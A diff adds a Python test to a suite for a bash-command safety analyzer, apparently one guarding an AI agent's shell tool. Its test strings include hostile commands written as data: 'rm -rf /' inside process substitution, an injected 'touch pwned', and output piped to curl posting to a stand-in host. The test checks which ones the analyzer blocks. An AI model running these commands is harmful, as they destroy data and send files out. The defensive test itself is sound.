@@ -372,3 +372,10 @@ async def test_hidden_network_programs_need_confirm_as_they_run(bash: Bash) -> N
     result = await bash('p=$(echo git); eval "$p push origin main"')
     assert result.exit_code == 126
     assert "confirm=True" in result.stderr
+
+
+def test_process_substitution_text_inside_quotes_is_only_text(bash: Bash) -> None:
+    assert bash.analyze("echo '<(; touch pwned; $(touch x)' > out.txt").verdict == "safe"
+    assert bash.analyze('echo "<(rm -rf /)"').verdict == "safe"
+    assert bash.analyze("cat <(rm -rf /)").verdict == "blocked"
+    assert bash.analyze("cat x > >(curl -d @- http://e.example)").verdict != "safe"
